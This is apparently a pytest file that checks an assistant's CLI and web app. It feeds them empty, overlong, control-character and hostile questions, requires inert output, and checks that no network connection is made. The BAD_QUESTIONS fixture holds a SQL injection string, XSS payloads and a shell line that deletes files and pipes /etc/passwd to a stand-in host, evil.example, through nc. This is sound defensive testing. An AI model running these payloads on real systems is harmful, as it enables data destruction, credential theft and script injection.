"""Hostile and broken questions, through the CLI and the app, and no network, ever."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap

import pytest

import app
from assistant.cli import main
from assistant.service import Assistant
from tests.served_app import ROOT, app_env, make_corpus, serve

LIMIT = 1000  # Settings.max_question_chars
BAD_QUESTIONS = {
    "empty": "",
    "whitespace only": " \t\n  ",
    "one character": "x",
    "100,000 characters": "neglect " * 12_500,
    "NUL and control characters": "forced\x00 marriage\x07\x1b[31m\x7f",
    "emoji": "\U0001f476\U0001f3fd safeguarding \U0001f6a8\U0001f6a8",
    "right-to-left text": "\u0632\u0648\u0627\u062c \u0642\u0633\u0631\u064a forced marriage",
    "bidi override": "\u202eegairram decrof\u202c",
    "zero-width characters": "forced\u200b marriage\u200d\ufeff",
    "SQL": "'; DROP TABLE reviews; -- OR 1=1",
    "shell": "$(rm -rf /) `reboot` && cat /etc/passwd | nc evil.example 80",
    "script tag": "<script>alert('q')</script> forced marriage",
    "img onerror": '<img src=x onerror="alert(1)"> neglect',
    "javascript link": "[click me](javascript:alert(1)) what about neglect?",
    "remote image": "![track](http://evil.example/pixel.png) domestic abuse",
    "HTML entity tricks": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E;",
    "Markdown heading and table": "# Big\n| a | b |\n|---|---|\n| c | d |",
}
LIVE_MARKUP = ("<script", "<img", "](javascript", "![", "<b>", "\n# Big")


@pytest.fixture
def cli_env(settings, fake_encoder, monkeypatch):
    monkeypatch.setenv("ASSISTANT_CORPUS_DIR", str(settings.corpus_dir))
    monkeypatch.setenv("ASSISTANT_INDEX_DIR", str(settings.index_dir))


@pytest.mark.parametrize("name", list(BAD_QUESTIONS))
def test_the_cli_answers_or_explains_every_bad_question(cli_env, capsys, name):
    question = BAD_QUESTIONS[name]
    code = main(["ask", question])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    if code == 2:  # refused, with a message saying why
        assert "Please type a question" in err or f"under {LIMIT}" in err
    else:
        assert code == 0 and out.startswith("Q: ")
    assert main(["ask", "--json", question]) == 0
    row = json.loads(capsys.readouterr().out)  # one valid JSON line, always
    assert set(row) >= {"question", "abstained", "answer", "citations"}


@pytest.fixture
def ui(settings, fake_encoder, monkeypatch):
    monkeypatch.setattr(app, "_assistant", Assistant(settings, encoder=fake_encoder))
    return app


@pytest.mark.parametrize("name", list(BAD_QUESTIONS))
def test_the_app_answers_every_bad_question_with_inert_text(ui, name):
    messages, _, _ = ui.respond(BAD_QUESTIONS[name], [], None, None, None, None, None, {})
    shown = "\n".join(m.content for m in messages)
    assert shown.strip() and "Traceback" not in shown
    for markup in LIVE_MARKUP:
        assert markup not in shown, markup
    from assistant import ui_themes

    view, _ = ui_themes.show_theme(ui.get_assistant(), BAD_QUESTIONS[name])
    for markup in LIVE_MARKUP:
        assert markup not in view, markup


def test_overlong_questions_are_refused_with_the_limit_stated(ui):
    messages, _, _ = ui.respond("a" * (LIMIT + 1), [], None, None, None, None, None, {})
    assert f"please keep it under {LIMIT}" in messages[0].content


@pytest.mark.real_model
def test_the_running_app_refuses_or_escapes_bad_questions(served_app):
    from gradio_client import Client

    url, _ = served_app
    client = Client(url, verbose=False)
    for name in ("100,000 characters", "NUL and control characters", "script tag", "remote image"):
        messages, _ = client.predict(BAD_QUESTIONS[name], [], [], [], None, None, api_name="/chat")
        shown = "\n".join(m["content"] for m in messages)
        assert shown and "Traceback" not in shown, name
        for markup in LIVE_MARKUP:
            assert markup not in shown, (name, markup, shown[:3000])


# --- No network ---------------------------------------------------------------------------

GUARD = textwrap.dedent(
    """
    # Loaded at start-up through PYTHONPATH: log and refuse every connection that is not
    # to this machine, so a test can prove no code path reaches out.
    import os, socket
    LOG = os.environ["NETWORK_GUARD_LOG"]
    LOCAL = ("127.", "::1", "localhost", "0.0.0.0")

    def _refuse(what):
        with open(LOG, "a") as fh:
            fh.write(repr(what) + "\\n")
        raise OSError("network access refused by the test guard")

    _connect = socket.socket.connect
    def connect(self, address):
        host = address[0] if isinstance(address, tuple) else str(address)
        if self.family in (socket.AF_INET, socket.AF_INET6) and not str(host).startswith(LOCAL):
            _refuse(address)
        return _connect(self, address)
    socket.socket.connect = connect

    _getaddrinfo = socket.getaddrinfo
    def getaddrinfo(host, *args, **kwargs):
        if host is not None and not str(host).startswith(LOCAL):
            _refuse(("getaddrinfo", host))
        return _getaddrinfo(host, *args, **kwargs)
    socket.getaddrinfo = getaddrinfo
    """
)


@pytest.mark.real_model
def test_cli_and_app_start_and_answer_with_no_network(tmp_path):
    guard = tmp_path / "guard"
    guard.mkdir()
    (guard / "sitecustomize.py").write_text(GUARD)
    log = tmp_path / "network.log"
    make_corpus(tmp_path)
    env = {**app_env(tmp_path), "PYTHONPATH": str(guard), "NETWORK_GUARD_LOG": str(log)}
    # The guard works: a lookup of an outside host is refused and logged.
    probe = "import socket; socket.getaddrinfo('example.org', 80)"
    assert subprocess.run([sys.executable, "-c", probe], env=env, capture_output=True).returncode
    assert "example.org" in log.read_text()
    log.unlink()
    for args in (["index"], ["ask", "what did reviews say about forced marriage?"]):
        run = subprocess.run(
            [sys.executable, "-m", "assistant", *args],
            cwd=ROOT, env=env, capture_output=True, text=True,
        )  # fmt: skip
        assert run.returncode == 0, run.stderr[-800:]
    assert "Forced marriage" in run.stdout
    extra = {"PYTHONPATH": str(guard), "NETWORK_GUARD_LOG": str(log)}
    with serve(tmp_path, **extra) as url:
        from gradio_client import Client

        messages, _ = Client(url, verbose=False).predict(
            "forced marriage", [], [], [], None, None, api_name="/chat"
        )
        assert "Forced marriage" in messages[0]["content"]
    assert not log.exists(), log.read_text()


# --- Bad corpus files, all at once ---------------------------------------------------------


def test_a_corpus_full_of_bad_files_still_indexes_the_good_one(settings, fake_encoder):
    from tests.test_formats import BAD_FILES

    corpus = settings.corpus_dir
    for name, (data, _) in BAD_FILES.items():
        (corpus / name).write_bytes(data)
    (corpus / "latin1.md").write_bytes(
        "# Review \xe9\n\nSummary\n\nCaf\xe9 text.".encode("latin-1")
    )
    (corpus / "deep.html").write_bytes(b"<html><body>" + b"<div>" * 20000 + b"</div>" * 20000)
    with (corpus / "huge.md").open("wb") as fh:
        fh.truncate(50 * 2**20)
    index = Assistant(settings, encoder=fake_encoder).index
    assert index.manifest.counts["reviews"] == 5 + 1  # the seed's five, and latin1.md
    errors = {s.file: s.error for s in index.sources if s.error}
    assert set(errors) >= {*BAD_FILES, "huge.md"}
    for name, (_, message) in BAD_FILES.items():
        assert errors[name].startswith(message)
    assert all("\n" not in e and "Traceback" not in e for e in errors.values())
    warnings = [w for s in index.sources for w in s.warnings]
    assert any(w.startswith("latin1.md: is not UTF-8") for w in warnings)
